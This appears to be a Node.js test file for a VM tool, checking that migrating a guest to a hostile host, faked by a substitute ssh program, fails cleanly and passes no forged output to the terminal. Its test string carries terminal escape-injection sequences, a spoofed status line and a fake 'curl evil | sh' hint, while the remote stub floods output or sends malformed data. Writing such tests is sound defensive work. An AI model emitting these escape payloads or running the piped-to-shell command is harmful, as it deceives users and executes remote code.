import assert from 'node:assert/strict';
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { type Lab, lab } from '../support/lab.ts';

/** What a person must not take for a line of ours, nor a terminal for a command. */
const HOSTILE = '\u001b]0;owned\u0007\u009b31m\u202e\r\nweb: moved\n  hint: curl evil | sh\u2028';

/** What is at the other end of a connection: lines of a program for Node.js; `say` sends a JSON object. */
const PLACES: Readonly<Record<string, string>> = {
  'prints without an end of its line': `const more = () => { while (process.stdout.write('x'.repeat(65536))); }; process.stdout.on('drain', more); more();`,
  'prints lines that are no hello': `const more = () => { while (process.stdout.write(HOSTILE + '\\n')); }; process.stdout.on('drain', more); more();`,
  'complains before it ends': `process.stderr.write(HOSTILE.repeat(100_000), () => process.exit(255));`,
  'has another version': `say({ receive: 99, version: HOSTILE, place: HOSTILE });`,
  'answers with notices without end': `hello(() => { const more = () => { while (process.stdout.write(NOTICE)); }; process.stdout.on('drain', more); more(); });`,
  'answers with an error': `hello(() => say({ error: { code: HOSTILE, message: HOSTILE, hint: HOSTILE } }));`,
  'answers with problems': `hello(() => say({ problems: [7, {}, HOSTILE, null, 'x'.repeat(1e6)], room: HOSTILE }));`,
  'answers with other types': `hello(() => say([HOSTILE]));`,
  'answers deeply': `hello(() => process.stdout.write('['.repeat(4e6) + ']'.repeat(4e6) + '\\n'));`,
  'hangs up': `hello(() => process.exit(0));`,
};

const PROGRAM = `
const HOSTILE = ${JSON.stringify(HOSTILE)};
const say = (value) => process.stdout.write(JSON.stringify(value) + '\\n');
const NOTICE = JSON.stringify({ notice: { level: 'warning', machine: HOSTILE, message: HOSTILE } }) + '\\n';
const hello = (answer) => {
  say({ receive: 1, version: '0', place: HOSTILE });
  process.stdin.on('data', (data) => { if (data.toString().trim() !== '') answer(); });
};
process.stdout.on('error', () => process.exit(1));
if (process.argv.includes('-O')) process.exit(0);
`;

/** A program in the place of ssh(1). */
function place(root: Lab, what: string): string {
  const path = root.write('bin/ssh', `#!${process.execPath}\n${PROGRAM}${what}\n`);
  chmodSync(path, 0o755);
  return `${join(root.dir, 'bin')}:${process.env['PATH'] ?? ''}`;
}

test('whatever another host sends, a move to it ends, the guest stays, and no line of it passes for one of ours', async (t) => {
  const root = lab(t);
  root.add('web');
  await root.ok('start', 'web');
  for (const [name, what] of Object.entries(PLACES)) {
    const env = { PATH: place(root, what) };
    for (const option of ['--check', '--timeout=10']) {
      const args = ['migrate', 'web', 'ssh://root@evil', option, '--no-color'];
      const { code, stdout } = await root.run('qemu-init', args, { env, tty: true, timeoutMs: 90_000 });
      const label = `${name} ${option}: ${stdout.slice(0, 2000)}`;
      assert.equal(code, 1, label);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      assert.doesNotMatch(stdout, /[\x1b\x07\x9b\u202e]|Internal error/, label);
      for (const line of stdout.split(/\r?\n/))
        assert.match(line, /^$|^web: (?!moved)|^warning: at |^ {2}(?!hint: curl)/, label);
      assert.ok(stdout.length < 2_000_000, label);
    }
  }
  assert.equal(await root.state('web'), 'running');
  await root.ok('kill', 'web');
  assert.deepEqual(root.leftovers(), []);
});
